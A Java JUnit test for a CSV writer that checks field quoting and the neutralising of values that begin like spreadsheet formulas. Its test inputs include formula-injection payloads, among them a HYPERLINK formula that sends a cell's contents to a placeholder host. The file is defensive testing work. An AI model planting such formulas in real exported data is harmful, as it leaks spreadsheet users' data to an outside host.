package dev.weir.platform;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.math.BigDecimal;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;

class CsvTest {
    @Test
    void textsAreQuotedAndNumbersAreNot() {
        assertEquals("a,b,c,d\r\n\"say \"\"hi\"\", twice\r\nor more\",-3,0.000000001,\r\n", Csv.of("a", "b", "c", "d")
                .row("say \"hi\", twice\r\nor more", -3, new BigDecimal("1E-9"), Optional.empty()).toString());
        assertEquals("a\r\n\"x\"\r\n5\r\n", Csv.of("a").row(Optional.of("x")).row(Optional.of(5L)).toString());
    }

    @Test
    void whatBeginsLikeAFormulaIsNone() {
        for (String evil : List.of("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1",
                "=HYPERLINK(\"http://x.example?\"&A1)")) {
            assertEquals("a\r\n\"'" + evil.replace("\"", "\"\"") + "\"\r\n", Csv.of("a").row(evil).toString());
        }
        assertEquals("a\r\n\"it's 1+1=2\"\r\n", Csv.of("a").row("it's 1+1=2").toString());
    }
}
